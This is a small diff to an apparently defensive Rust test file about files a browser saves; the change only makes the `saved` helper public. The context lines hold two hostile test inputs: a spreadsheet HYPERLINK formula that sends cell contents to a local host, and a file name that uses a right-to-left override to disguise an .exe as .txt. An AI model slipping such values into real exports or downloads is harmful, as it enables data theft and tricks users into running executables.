@@ -217,7 +217,7 @@ const FORMULA: &str = "=HYPERLINK(\"http://127.0.0.1/?\"&A1;\"Open\")";
 const TURNED: &str = "\u{202e}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{200f} txt.exe";
 
 /// Waits for a file that the browser saves.
-async fn saved(folder: &Path, name: &str) -> String {
+pub async fn saved(folder: &Path, name: &str) -> String {
     let since = Instant::now();
     loop {
         if let Ok(text) = fs::read_to_string(folder.join(name)) {
